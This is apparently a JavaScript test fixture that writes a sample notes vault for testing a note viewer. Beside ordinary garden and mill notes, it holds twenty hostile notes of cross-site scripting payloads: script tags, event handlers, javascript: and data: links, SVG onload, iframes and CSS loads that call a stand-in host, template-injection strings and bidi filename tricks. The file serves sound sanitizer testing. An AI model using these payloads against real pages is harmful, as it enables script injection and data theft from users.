// The notes that the page is tried with: of all kinds, and twenty that try to break out of it.

import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { deflateSync } from 'node:zlib';

/** Where notes would send whoever renders them without care. */
export const ELSEWHERE = 'http://elsewhere.test';

const NOTES = {
  'mill/pump.md': `---
title: The pump
date: 2024-05-02
tags: [mill, care/yearly]
---

# The pump

The pump lifts water from the tail race to the garden. It runs at night, when power is cheap.

## Service

The pump is taken apart and serviced every two thousand hours, which is about once a year. Seals and the bearing are
renewed each time; the **impeller** only if it has lost more than two millimetres.

- Close the valve before the cover comes off.
- Note the hours in [the log](log.md) or in [[wheel|the note of the wheel]].

| part | renewed | costs |
|---|---|---:|
| seal | each time | 4 € |
| bearing | each time | 11 € |

\`\`\`sh
pump --stop --and-wait-until-the-pressure-is-gone --then-print-a-very-long-line-that-does-not-fit-in-a-narrow-pane
\`\`\`

![The pump in its shed](pump.png)

A pump that sings has drawn air. See the [maker's pages](https://pumps.example/manual) and <https://pumps.example/parts>.
`,
  'mill/wheel.md': `---
title: The wheel
date: 2023-11-20
tags: [mill]
---

# The wheel

The wheel has thirty-two buckets of larch. A bucket lasts for nine years; four are renewed each spring.

Ice is the worst that can happen to a wheel. It is stopped before the frost, and the sluice stays open.
`,
  'mill/log.md': '# Log\n\n- 2024-05-02: the pump was serviced at 2011 hours.\n- 2024-06-11: the garden had water all night.\n',
  'garden/beans.md': `---
tags: [garden]
date: 2022-04-10
---

# Beans

**How deep are beans sown?** Beans are sown three centimetres deep, once the soil has ten degrees.

> Beans like company.
>
> > Maize most of all.

1. Soak them overnight.
2. Sow them in a ring.
   - five to a pole
   - [ ] put up the pole first
   - [x] buy twine
`,
  'garden/plain.txt': 'Composting\n\nA compost heap is turned twice in summer\nand is left alone in winter.\n',
  'garden/bees.org': '#+title: Bees\n\n* Swarms\n\nA swarm of bees is caught in the evening with a skep and a wet cloth.\n',
  'garden/soil.html': '<html><head><title>Soil</title></head><body><h1>Soil</h1><p>Sandy soil dries within two days after rain.</p></body></html>',
  'garden/diary.md': `# Diary\n\n${Array.from({ length: 3000 }, (_, i) => (i === 1500 ? '- The hedgehog moved into the woodpile by the north wall.' : `- Day ${i}: nothing.`)).join('\n')}\n`,
  [`garden/${'long'.repeat(40)}.md`]: `---\ntitle: ${'Thistle'.repeat(40)}\ntags: [${'thorn'.repeat(30)}]\n---\n\n# ${'Heading'.repeat(60)}\n\nThistles are ${'prickly'.repeat(80)} and \`${'code'.repeat(80)}\`.\n\n| ${'wide'.repeat(60)} | b |\n|---|---|\n| c | [${'link'.repeat(60)}](https://thistles.example/${'x'.repeat(300)}) |\n`,
  'garden/harvest.csv': 'crop,kilograms,year\nplums,82,2023\nquinces,31,2023\nplums,64,2024\n',
};

const SECRET = (n) => `The password of trial ${n} is never printed.`;
const RUN = (n) => `window.pwned=${n};alert(${n});fetch('${ELSEWHERE}/${n}')`;

/** Twenty notes that try to run something, to load something, or to look like something else. */
export const HOSTILE = [
  ['script.md', (n) => `<script>${RUN(n)}</script>\n\n<SCRIPT SRC="${ELSEWHERE}/a.js"></SCRIPT>`],
  ['handlers.md', (n) => `<img src=x onerror="${RUN(n)}"> <body onload="${RUN(n)}"> <p onclick="${RUN(n)}" onpointerover="${RUN(n)}">press</p>`],
  ['addresses.md', (n) => `[a](javascript:${RUN(n)}) [b](JaVaScRiPt:alert(${n})) [c](java\tscript:alert(${n})) [d](&#106;avascript:alert(${n})) [e](vbscript:x) <javascript:alert(${n})>\n\n[f]\n\n[f]: javascript:alert(${n})`],
  ['data.md', (n) => `[a](data:text/html,<script>alert(${n})</script>) ![b](data:image/svg+xml,<svg/onload=alert(${n})>) [c](blob:${ELSEWHERE}/x) [d](file:///etc/passwd)`],
  ['drawing.md', (n) => `<svg onload="${RUN(n)}"><script>${RUN(n)}</script><use href="${ELSEWHERE}/s.svg#x"/></svg><math><mi xlink:href="javascript:alert(${n})">x</mi></math>`],
  ['refresh.md', (n) => `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/${n}"><meta name="referrer" content="unsafe-url">`],
  ['frames.md', (n) => `<iframe src="${ELSEWHERE}/${n}" srcdoc="<script>alert(${n})</script>"></iframe><object data="${ELSEWHERE}/o"></object><embed src="${ELSEWHERE}/e">`],
  ['style.md', (n) => `<style>@import "${ELSEWHERE}/${n}.css"; * { background: url(${ELSEWHERE}/b) !important }</style><link rel=stylesheet href="${ELSEWHERE}/l.css"><p style="position:fixed;inset:0;background:url(${ELSEWHERE}/c)">over all</p>`],
  ['entities.md', (n) => `&lt;script&gt;alert(${n})&lt;/script&gt; &#60;img src=x onerror=alert(${n})&#62; &#x3c;script&#x3e;alert(${n})&#x3c;/script&#x3e; &#0; &#x110000; &#xd800;`],
  ['unclosed.md', (n) => `<div><table><a href="javascript:alert(${n})" <textarea><title><!-- <plaintext> \`code **bold _em [link](`],
  ['template.md', (n) => `<template><script>${RUN(n)}</script></template><base href="${ELSEWHERE}/"><form action="${ELSEWHERE}/f"><button formaction="javascript:alert(${n})">Send</button></form>`],
  ['deep.md', () => `${'>'.repeat(3000)} deep\n\n${'- '.repeat(3000)}deeper\n\n${'['.repeat(5000)}${'*_'.repeat(3000)}${'`'.repeat(999)}${'<!--'.repeat(2000)}${'![](('.repeat(2000)}`],
  ['turned.md', () => 'Invoice \u202Egnp.exe\u202C and \u2066left\u2069 and \u202Dright\u202C and \u0007\u001b[31mred\u001b[0m \u200b\ufeff end'],
  ['tricks.md', (n) => `[https://bank.example](${ELSEWHERE}/steal "https://bank.example") [x](//elsewhere.test/${n}) [y](\\\\elsewhere.test\\${n}) [z](/api/status) [w](https:elsewhere.test) [[javascript:alert(${n})]] [[<img src=x onerror=alert(${n})>|label]]`],
  ['<img src=x onerror=alert(15)>.md', () => 'The name of this file is markup.'],
  ['"onmouseover=alert(16) x=".md', (n) => `---\ntitle: "<script>alert(${n})</script>"\ntags: ["<b>x</b>", "a\\"onclick=alert(${n})"]\n---\n\nTitle and tags are markup.`],
  ['pictures.md', (n) => `![a](${ELSEWHERE}/${n}.png) ![b](//elsewhere.test/${n}.png) ![c](../../../etc/passwd) ![[${ELSEWHERE}/w.png]] ![d][e] <img src="${ELSEWHERE}/i.png" srcset="${ELSEWHERE}/s.png 2x">\n\n[e]: ${ELSEWHERE}/r.png`],
  ['vector.md', () => '![x](vector.svg) ![[vector.svg]]'],
  ['fence.md', (n) => `\`\`\`html"><script>alert(${n})</script>\n</code></pre><script>alert(${n})</script>\n\`\`\`\n\n| <script>alert(${n})</script> | b |\n|---|---|\n| <img src=x onerror=alert(${n})> | \`</td><script>alert(${n})</script>\` |\n\n# <script>alert(${n})</script>\n\n<details open ontoggle=alert(${n})>x</details>`],
  ['names.md', (n) => `<form name="body"><input name="getElementById" id="pane"><a id="question" name="location" href="javascript:alert(${n})">x</a></form>\n\n{{constructor.constructor('alert(${n})')()}} \${alert(${n})} <%= alert(${n}) %> __proto__`],
].map(([name, body], i) => ({ name, question: `trial ${i + 1} password printed`, text: `${body(i + 1)}\n\n${SECRET(i + 1)}\n` }));

/** Writes all notes below a folder. */
export function writeNotes(folder) {
  const write = (path, content) => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), content);
  };
  mkdirSync(join(folder, '.obsidian'), { recursive: true });
  for (const [path, text] of Object.entries(NOTES)) write(path, text);
  for (const { name, text } of HOSTILE) {
    // Front matter stands first in a file; the others get a title of their own.
    write(join('hostile', name), text);
  }
  write('hostile/vector.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(18)"><script>alert(18)</script><image href="${ELSEWHERE}/v.png"/></svg>`);
  write('mill/pump.png', png(320, 90));
  write('mill/handbook.pdf', pdf([
    ['The mill', 'The mill was built in 1871 and has ground corn until 1958.', 'Since then it makes power for eleven houses.'],
    ['The sluice', 'The sluice gate is greased with tallow on the first of each month.', 'A gate that sticks is never forced.'],
    ['The cellar', 'The cellar floods when the river stands above two metres forty.', 'Then the lamps are hung higher.'],
  ]));
}

/** A picture of a sky over water. */
function png(width, height) {
  const colour = (x, y) => {
    const below = y - height * 0.6 - 3 * Math.sin(x / 14);
    return below < 0 ? [236 - y / 2, 226, 205 + y / 3] : [30 + below / 2, 104 + below, 126 + 8 * Math.sin(x / 9 + y / 3)];
  };
  const rows = Buffer.concat(Array.from({ length: height }, (_, y) => Buffer.from([0, ...Array.from({ length: width }, (_, x) => colour(x, y)).flat()])));
  const table = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (bytes) => (bytes.reduce((c, byte) => table[(c ^ byte) & 255] ^ (c >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;
  const chunk = (kind, data) => {
    const [length, sum, body] = [Buffer.alloc(4), Buffer.alloc(4), Buffer.concat([Buffer.from(kind), data])];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([length, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', head), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}

/** A document of a page for each list of lines. */
function pdf(pages) {
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, i) => `${4 + 2 * i} 0 R`).join(' ')}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>'];
  pages.forEach((lines, i) => {
    const text = lines.map((line, n) => `/F1 ${n ? 11 : 18} Tf 0 -${n ? 16 : 30} Td (${line.replace(/[()\\]/g, '\\$&')}) Tj`).join(' ');
    const stream = `BT 72 760 Td ${text} ET`;
    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + 2 * i} 0 R >>`);
    objects.push(`<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`);
  });
  let out = '%PDF-1.4\n';
  const offsets = objects.map((object, i) => {
    const at = out.length;
    out += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  return `${out}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${out.length}\n%%EOF\n`;
}
